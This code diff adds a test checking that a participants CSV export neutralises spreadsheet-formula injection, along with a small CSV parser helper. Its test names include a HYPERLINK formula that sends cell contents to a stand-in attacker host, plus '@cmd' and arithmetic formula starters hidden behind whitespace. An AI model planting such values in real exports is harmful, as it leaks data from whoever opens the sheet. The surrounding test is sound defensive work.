@@ -159,6 +159,35 @@ describe('participants as CSV', () => {
     expect(lines[1].split(';')[4]).toBe(local);
   });
 
+  it('never hands a spreadsheet a formula, even behind spaces, tabs or line breaks', async () => {
+    const event = await createEvent(server.admin, { title: 'Kalkylkväll', capacity: 0 });
+    const names = [
+      '  =HYPERLINK("https://evil.example/?d="&A1;"Klicka")',
+      '\t=1+1',
+      ' \r\n+SUM(1;2)',
+      '\u00a0-2+3',
+      '\n@cmd',
+      'Anna-Lena Öst',
+    ];
+    for (const name of names) {
+      const person = await server.person('guest', name);
+      await person.pb.collection('registrations').create({ event: event.id, user: person.user.id });
+    }
+    const response = await fetch(`${server.url}/api/coffice/events/${event.id}/participants.csv`, {
+      headers: { Authorization: host.authStore.token },
+    });
+    const cells = parseCsv((await response.text()).replace(/^\uFEFF/, '')).slice(1).map((row) => row[2]);
+    expect(cells).toHaveLength(names.length);
+    for (const [i, cell] of cells.entries()) {
+      if (i === names.length - 1) {
+        expect(cell).toBe('Anna-Lena Öst'); // a dash inside a name is no formula
+        continue;
+      }
+      expect(cell.startsWith("'"), JSON.stringify(cell)).toBe(true);
+      expect(cell.slice(1).trim()).toBe(names[i].trim()); // the name itself is kept
+    }
+  });
+
   it('is for hosts only', async () => {
     const event = await createEvent(server.admin);
     const url = `${server.url}/api/coffice/events/${event.id}/participants.csv`;
@@ -173,3 +202,32 @@ describe('participants as CSV', () => {
     expect(unknown.status).toBe(404);
   });
 });
+
+/** Rows of a semicolon CSV with quoted fields (quotes doubled inside, line breaks allowed). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ';') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += c;
+  }
+  return rows;
+}
